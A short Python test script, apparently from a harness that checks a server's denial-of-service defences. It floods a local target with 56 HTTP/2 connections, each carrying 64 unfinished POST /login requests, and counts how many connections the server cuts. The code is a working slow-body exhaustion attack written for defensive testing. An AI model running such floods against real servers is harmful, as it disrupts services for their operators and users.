from _crowd import crowd, hold
from _http2 import DATA, connect, frame, request

WHAT = "56 HTTP/2 connections from one address, 64 unfinished POST /login of 60 KiB on each"
BODY = b"a" * 16_000


def attack(box, stop):
    def one(number):
        s = connect(box, "127.0.1.1")
        try:
            for i in range(64):
                stream = 2 * i + 1
                s.sendall(request(stream, "POST", "/login", False, content_length="61440",
                                  content_type="application/x-www-form-urlencoded"))
                s.sendall(frame(DATA, 0, stream, BODY if i < 4 else b"a" * 900))
            stop.wait(5)
        finally:
            s.close()

    return "%d connections, %d of them cut" % crowd(56, stop, one)
